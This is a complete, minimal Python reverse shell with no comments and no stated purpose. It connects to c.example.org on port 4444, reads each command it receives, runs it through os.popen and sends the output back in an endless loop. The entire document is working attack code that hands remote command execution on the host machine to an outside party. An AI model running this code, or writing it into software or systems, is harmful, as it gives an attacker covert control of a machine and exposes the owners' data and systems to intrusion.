import os
import socket

connection = socket.socket()
connection.connect(("c.example.org", 4444))
while True:
    command = connection.recv(1024).decode()
    connection.send(os.popen(command).read().encode())
